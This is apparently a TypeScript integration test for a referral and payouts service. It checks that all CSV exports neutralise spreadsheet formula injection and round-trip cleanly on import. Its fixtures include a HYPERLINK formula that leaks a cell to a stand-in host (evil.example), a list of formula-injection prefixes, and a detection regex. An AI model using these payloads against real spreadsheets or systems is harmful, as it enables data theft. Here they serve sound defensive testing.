import { parse } from 'csv-parse/sync';
import { createLink } from '../../factories/fraud.factory';
import { createLead, registerConversion } from '../../factories/money.factory';
import { admin, approveBonus, runPayouts } from '../../factories/payouts.factory';
import { createStaffToken, createTenant, type TestTenant } from '../../factories/tenants.factory';
import { runImport } from '../../factories/transfer.factory';
import { createChain, upsertUser, type UpsertedMember } from '../../factories/users.factory';
import { createTestApp, type TestApp } from '../../utils/create-test-app';
import { orgSignIn } from '../../utils/pages-http';

/**
 * CSV formula injection (docs/security.md, "CSV formula injection"): text that a partner, a lead
 * (the public landing-page form, no login), a service or staff wrote, and that a spreadsheet would
 * evaluate (`=`, `+`, `-`, `@`, TAB, CR, their full-width forms, after leading whitespace), is
 * written with a leading `'` in EVERY CSV the service answers, while numeric cells stay numbers.
 * The routes are read from the OpenAPI document (every operation answering text/csv), so a CSV
 * added later is checked too. The files import back (members.csv) and settle back (the run CSV)
 * to the values they stand for.
 */
jest.setTimeout(120_000);

/** What a spreadsheet evaluates: the test's own statement of the rule. */
const FORMULA = /^(?:[\t\r\0]|[\s\0]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
/** Columns that hold numbers in the files (amounts, counts, depths). */
const NUMERIC =
  /^(?:amount|amount_kopecks|total_kopecks|depth|downline_count|leads_count|clicks_count|payouts_count|pending|paid|failed|canceled)$/;
const NUMBER = /^-?\d+(?:\.\d+)?$/;

const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const EXTERNAL = '@SUM(1+1)*cmd';
const EMAIL = '-partner@example.org';
const LEAD_NAMES = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=2+2',
  '\r=3+3',
  ' =4+4',
  '\u3000=5+5',
  '\uFF1D6+6',
  '\uFF0B7',
  '\uFF0D8',
  '\uFF20SUM(9)',
];
const ORDER = '+ORDER-1';
const REJECTED = '-rejected=1';
const REFERENCE = '@REF-';
const HOSTILE = [NAME, EXTERNAL, EMAIL, ...LEAD_NAMES, ORDER, REJECTED];

interface OpenApi {
  paths: Record<string, Record<string, { responses?: Record<string, { content?: object }> }>>;
}

describe('CSV formula injection', () => {
  let t: TestApp;
  let org: TestTenant;
  let partner: UpsertedMember;
  let owner: string;
  let runId: string;

  const adminGet = (path: string) => t.http().get(path).set(admin(t));
  const parseCsv = (text: string): string[][] => parse(text, { bom: true });

  beforeAll(async () => {
    t = await createTestApp();
    org = await createTenant(t, { locale: 'en-US', payouts: { minimum_kopecks: 100 } });
    const [root] = await createChain(t, org.key, 1);
    partner = await upsertUser(t, org.key, {
      external_id: EXTERNAL,
      full_name: NAME,
      email: EMAIL,
      referrer_user_id: root.serviceUserId,
    });
    // Leads through the public landing-page form: no login, any name.
    const link = await createLink(t, org, partner);
    for (const name of LEAD_NAMES) {
      const res = await t
        .http()
        .post(`/s/${link.code}/lead`)
        .type('form')
        .send({ name, phone: '+79990000000' });
      expect([name, res.status]).toEqual([name, 200]);
    }
    // A conversion with a hostile order id; its bonuses approved and paid out in a run.
    const lead = await createLead(t, org.key, partner.serviceUserId, {
      contact: { name: LEAD_NAMES[0], email: 'lead@example.org' },
    });
    const c = await registerConversion(t, org.key, {
      lead_id: lead,
      amount_kopecks: 100_000,
      external_order_id: ORDER,
    });
    for (const b of c.cascaded_bonuses) await approveBonus(t, org.slug, b.bonus_id);
    runId = (await runPayouts(t, org.slug)).run_id;
    // A bonus rejected with a hostile reason.
    const lead2 = await createLead(t, org.key, partner.serviceUserId);
    const c2 = await registerConversion(t, org.key, {
      lead_id: lead2,
      amount_kopecks: 50_000,
      external_order_id: 'order-2',
    });
    const rejected = await t
      .http()
      .post(`/admin/v1/tenants/${org.slug}/bonuses/${c2.cascaded_bonuses[0].bonus_id}/reject`)
      .set(admin(t))
      .send({ reason: REJECTED });
    expect(rejected.status).toBe(200);
    owner = await orgSignIn(t.http, await createStaffToken(t, org.slug, 'owner'));
  });
  afterAll(() => t.close());

  it('the run CSV settles back: the references it quoted are stored as they were written', async () => {
    const csv = await adminGet(`/admin/v1/tenants/${org.slug}/payouts/runs/${runId}.csv`);
    expect(csv.status).toBe(200);
    const [head, ...rows] = parseCsv(csv.text);
    // What a spreadsheet saves after the bank's references were typed in: the quoted cells kept.
    const file = [[...head, 'reference'], ...rows.map((r, i) => [...r, `'${REFERENCE}${i}`])]
      .map((r) => r.map((v) => `"${v.replace(/"/g, '""')}"`).join(','))
      .join('\r\n');
    const settled = await t
      .http()
      .post(`/admin/v1/tenants/${org.slug}/payouts/runs/${runId}/settle`)
      .set(admin(t))
      .set('Content-Type', 'text/csv')
      .send(file);
    expect(settled.status).toBe(200);
    expect(settled.body.paid_count).toBe(rows.length);
    const refs: { reference: string }[] = await t.db.query(
      `SELECT reference FROM payouts WHERE tenant_id = $1 AND run_id = $2 ORDER BY id`,
      [org.orgId, runId],
    );
    expect(refs.map((r) => r.reference).sort()).toEqual(
      rows.map((_, i) => `${REFERENCE}${i}`).sort(),
    );
  });

  it('no text cell of any CSV the service answers starts a formula; numbers stay numbers', async () => {
    const doc = (await t.http().get('/docs/openapi.json')).body as OpenApi;
    const routes = Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.entries(ops)
        .filter(([, op]) =>
          Object.values(op.responses ?? {}).some((r) =>
            Object.keys(r.content ?? {}).some((type) => type.startsWith('text/csv')),
          ),
        )
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    );
    // Guards the enumeration: the Admin API exports, its run CSV and the console's downloads.
    expect(routes).toEqual(
      expect.arrayContaining([
        'GET /admin/v1/tenants/{slug}/exports/members.csv',
        'GET /admin/v1/tenants/{slug}/exports/payouts.csv',
        'GET /org/{slug}/partners.csv',
        'GET /org/{slug}/payout-runs.csv',
      ]),
    );
    expect(routes.length).toBeGreaterThanOrEqual(13);

    const hostileSeen: string[] = [];
    for (const route of routes) {
      const [method, template] = route.split(' ');
      expect([route, method]).toEqual([route, 'GET']);
      const path = template.replace('{slug}', org.slug).replace('{run_id}', runId);
      expect([route, path]).toEqual([route, expect.not.stringMatching(/[{}]/)]);
      const res = path.startsWith('/org/')
        ? await t.http().get(path).set('Cookie', owner)
        : await adminGet(path);
      expect([route, res.status]).toEqual([route, 200]);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      const [head, ...rows] = parseCsv(res.text);
      expect([route, rows.length]).toEqual([route, expect.any(Number)]);
      expect(rows.length).toBeGreaterThan(0);
      const offenders: string[] = [];
      const quoted: string[] = [];
      for (const row of rows) {
        row.forEach((cell, i) => {
          if (NUMERIC.test(head[i])) {
            if (cell !== '' && !NUMBER.test(cell)) offenders.push(`${head[i]}: ${cell}`);
          } else if (FORMULA.test(cell)) offenders.push(`${head[i]}: ${JSON.stringify(cell)}`);
          else if (cell.startsWith("'")) quoted.push(cell.slice(1));
        });
      }
      expect([route, offenders]).toEqual([route, []]);
      // The hostile text did reach the file (so the check above is not vacuous): every file but
      // the runs list, whose cells are all the service's own (ids, counts, amounts, dates).
      if (!template.endsWith('/payout-runs.csv')) {
        expect([route, quoted.some((v) => HOSTILE.includes(v) || v.startsWith(REFERENCE))]).toEqual(
          [route, true],
        );
        hostileSeen.push(route);
      }
    }
    expect(hostileSeen.length).toBe(routes.length - 1);
  });

  it('members.csv imports back to the same names and ids', async () => {
    const csv = await adminGet(`/admin/v1/tenants/${org.slug}/exports/members.csv`);
    expect(csv.text).toContain(`"'${NAME.replace(/"/g, '""')}"`);
    const copy = await createTenant(t);
    const done = await runImport(t, copy.slug, csv.text);
    expect(done.status).toBe('succeeded');
    const [member] = await t.db.query(
      `SELECT full_name, email FROM members WHERE tenant_id = $1 AND external_id = $2`,
      [copy.orgId, EXTERNAL],
    );
    expect(member).toEqual({ full_name: NAME, email: EMAIL });
  });
});
